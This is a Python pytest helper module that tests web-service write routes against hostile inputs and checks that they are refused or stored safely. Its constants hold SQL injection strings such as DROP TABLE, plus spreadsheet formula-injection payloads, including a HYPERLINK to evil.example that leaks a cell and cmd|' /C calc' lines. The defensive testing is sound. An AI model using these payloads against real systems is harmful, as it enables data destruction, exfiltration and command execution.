"""Hostile inputs, and the checks each service's list (tests/security/test_hostile_*.py) makes with them.

A write route gets a valid body with a marker where a number goes; every variant below must be answered 4xx
problem+json with no row written: a body over the chassis limit, JSON nested 10,000 deep, numbers no field
can hold, NaN and Infinity (not JSON, though Python's parser takes them), bytes that are not UTF-8, and
control characters or bidirectional overrides in a name. SQL in a name is just text: it is stored as sent.
Formulas in exported text are stored as sent and exported as text (`chassis.excel`).
"""

import io
import json
import uuid
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from sqlalchemy import text

from chassis.excel import FORMULA_STARTS
from chassis.problems import PROBLEM_MEDIA_TYPE
from chassis.settings import ServiceSettings

BODY_LIMIT = ServiceSettings().max_body_bytes
NUMBER = "__number__"

CONTROL_CHARACTERS = {
    "NUL U+0000": "\u0000", "BEL U+0007": "\u0007", "ESC U+001B": "\u001b", "DEL U+007F": "\u007f",
    "NEL U+0085": "\u0085", "right-to-left override U+202E": "\u202e", "right-to-left isolate U+2067": "\u2067",
    "left-to-right mark U+200E": "\u200e",
}
SQL = ["'; DROP TABLE {table}; --", "1' OR '1'='1' --", "\"); DELETE FROM {table} WHERE ('1'='1"]
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"查看")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


@dataclass
class Call:
    """Where a write goes, as whom, and the fields of its body that name what `prepare` made."""

    path: str
    headers: dict[str, str]
    fields: dict[str, Any] = field(default_factory=dict)


@dataclass
class WriteRoute:
    """A route that writes, a valid body for it (fresh each call: names may need to be unique), and where the
    hostile values go: `number` names the field whose value is the NUMBER marker (`valid_number` when the body is
    to be valid), `names` the text fields.
    `prepare` makes what the route acts on (an application to disburse, say); by default the route's path as
    `headers()`."""

    label: str
    method: str
    path: str
    table: str
    body: Callable[[], dict[str, Any]]
    headers: Callable[[], dict[str, str]] = dict
    number: str | None = None
    valid_number: str = "1"
    names: list[str] = field(default_factory=list)
    prepare: Callable[[httpx.AsyncClient], Awaitable[Call]] | None = None
    status: int = 201
    adds: bool = True  # a row: else the route changes one (your own name, say)

    async def call(self, client: httpx.AsyncClient) -> tuple[Call, dict[str, Any]]:
        call = await self.prepare(client) if self.prepare else Call(self.path, self.headers())
        return call, {**self.body(), **call.fields}


def unique(prefix: str) -> str:
    return f"{prefix}{uuid.uuid4().hex[:8]}"


def encode(body: dict[str, Any], number: str = "1") -> bytes:
    """The body as JSON, with `number` (a JSON literal, or not quite JSON) where the marker is."""
    return json.dumps(body, ensure_ascii=False).replace(f'"{NUMBER}"', number).encode()


def unparsable_bodies(route: WriteRoute) -> dict[str, Callable[[dict[str, Any]], bytes]]:
    """Bodies built around a valid one that no route may take."""
    bodies: dict[str, Callable[[dict[str, Any]], bytes]] = {
        "over the body limit": lambda body: encode({**body, "padding": "x" * BODY_LIMIT}, route.valid_number),
        "arrays nested 10,000 deep": lambda body: b"[" * 10_000 + b"]" * 10_000,
        "objects nested 10,000 deep": lambda body: b'{"a":' * 10_000 + b"{}" + b"}" * 10_000,
        "text that is not UTF-8": lambda body: encode(body, route.valid_number)[:-1] + b', "x": "\xff\xfe\xc0"}',
    }
    if route.names:
        bodies["a lone surrogate in a name"] = lambda body: json.dumps({**body, route.names[0]: "a\ud800b"}).replace(
            f'"{NUMBER}"', route.valid_number).encode()
    if route.number is not None:
        for label, literal in (("1e400", "1e400"), ("-1e400", "-1e400"), ("10**400", "1" + "0" * 400),
                               ("an integer of 5,000 digits", "9" * 5000), ("NaN", "NaN"),
                               ("Infinity", "Infinity"), ("-Infinity", "-Infinity")):
            bodies[f"{route.number} = {label}"] = lambda body, literal=literal: encode(body, literal)
    return bodies


async def count(app: FastAPI, table: str, where: dict[str, str] | None = None) -> int:
    """Rows of the table, or those whose columns hold exactly the given text."""
    condition = " AND ".join(f"{column} = :{column}" for column in where or {}) or "1 = 1"
    async with app.state.sessionmaker() as session:
        found = await session.scalar(text(f"SELECT count(*) FROM {table} WHERE {condition}"), where or {})
        return int(found or 0)


async def send(client: httpx.AsyncClient, route: WriteRoute, call: Call, content: bytes) -> httpx.Response:
    headers = {**call.headers, "Content-Type": "application/json", "Idempotency-Key": str(uuid.uuid4())}
    return await client.request(route.method, call.path, content=content, headers=headers)


def assert_problem(response: httpx.Response, status: int | None = None) -> None:
    assert 400 <= response.status_code < 500, f"{response.status_code}: {response.text[:300]}"
    if status is not None:
        assert response.status_code == status, f"{response.status_code}: {response.text[:300]}"
    assert response.headers["content-type"].startswith(PROBLEM_MEDIA_TYPE), response.headers["content-type"]
    assert response.json()["status"] == response.status_code


def text_cells(workbook: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(workbook), read_only=True)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for cell in row
            if isinstance(cell, str)]


def assert_exported_as_text(workbook: bytes, payloads: list[str]) -> None:
    """Each payload is in the workbook, and no text cell would run as a formula."""
    cells = text_cells(workbook)
    for payload in payloads:
        assert any(payload in cell for cell in cells), f"{payload!r} is not in the export"
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


async def raw_request(app: FastAPI, method: str, raw_path: bytes) -> tuple[int, dict[str, str], bytes]:
    """A request whose path reaches the app as sent (an HTTP client would resolve dot segments first)."""
    path = raw_path.split(b"?", 1)[0].decode("latin-1")
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
             "path": path, "raw_path": raw_path, "query_string": b"", "root_path": "",
             "headers": [(b"host", b"testserver")], "client": ("127.0.0.1", 50000), "server": ("testserver", 80)}
    messages: list[dict[str, Any]] = []
    received = False

    async def receive() -> dict[str, Any]:
        nonlocal received
        if received:
            return {"type": "http.disconnect"}
        received = True
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send_(message: dict[str, Any]) -> None:
        messages.append(message)

    await app(scope, receive, send_)
    start = next(m for m in messages if m["type"] == "http.response.start")
    headers = {k.decode("latin-1"): v.decode("latin-1") for k, v in start.get("headers", [])}
    body = b"".join(m.get("body", b"") for m in messages if m["type"] == "http.response.body")
    return int(start["status"]), headers, body


def write_route_tests(routes: list[WriteRoute]) -> tuple[Callable[..., Awaitable[None]], ...]:
    """The list's tests over a service's write routes; its module names them, and gives `app` and `client`."""
    unparsable = [pytest.param(route, kind, id=f"{route.label}: {kind}")
                  for route in routes for kind in unparsable_bodies(route)]
    controls = [pytest.param(route, name, char, id=f"{route.label}: {name} with {label}")
                for route in routes for name in route.names for label, char in CONTROL_CHARACTERS.items()]
    sql = [pytest.param(route, route.names[0], payload, id=f"{route.label}: {payload}")
           for route in routes if route.names for payload in SQL]

    @pytest.mark.parametrize("route", [pytest.param(route, id=route.label) for route in routes])
    async def test_the_valid_body_is_taken(app: FastAPI, client: httpx.AsyncClient, route: WriteRoute) -> None:
        """The bodies below are hostile only where they say: this one, as they start, goes through."""
        call, body = await route.call(client)
        before = await count(app, route.table)
        response = await send(client, route, call, encode(body, route.valid_number))
        assert response.status_code == route.status, response.text
        assert await count(app, route.table) == before + route.adds

    @pytest.mark.parametrize(("route", "kind"), unparsable)
    async def test_an_unparsable_body_is_refused_and_nothing_written(app: FastAPI, client: httpx.AsyncClient,
                                                                    route: WriteRoute, kind: str) -> None:
        call, body = await route.call(client)
        before = await count(app, route.table)
        assert_problem(await send(client, route, call, unparsable_bodies(route)[kind](body)))
        assert await count(app, route.table) == before

    @pytest.mark.parametrize(("route", "name", "char"), controls)
    async def test_a_control_character_in_a_name_is_refused_and_nothing_written(
            app: FastAPI, client: httpx.AsyncClient, route: WriteRoute, name: str, char: str) -> None:
        call, body = await route.call(client)
        before = await count(app, route.table)
        response = await send(client, route, call, encode({**body, name: body[name][:1] + char + body[name][1:]},
                                                          route.valid_number))
        assert_problem(response, 422)
        assert [e for e in response.json()["errors"] if e["loc"][-1] == name or e["loc"] == ["body"]], response.text
        assert await count(app, route.table) == before

    @pytest.mark.parametrize(("route", "name", "payload"), sql)
    async def test_sql_in_a_name_is_stored_as_the_text_it_is(app: FastAPI, client: httpx.AsyncClient,
                                                              route: WriteRoute, name: str, payload: str) -> None:
        call, body = await route.call(client)
        text_ = payload.format(table=route.table) + unique(" ")
        before = await count(app, route.table)
        response = await send(client, route, call, encode({**body, name: text_}, route.valid_number))
        assert response.status_code == route.status, response.text
        assert await count(app, route.table) == before + route.adds
        assert await count(app, route.table, {name: text_}) == 1

    return (test_the_valid_body_is_taken, test_an_unparsable_body_is_refused_and_nothing_written,
            test_a_control_character_in_a_name_is_refused_and_nothing_written,
            test_sql_in_a_name_is_stored_as_the_text_it_is)
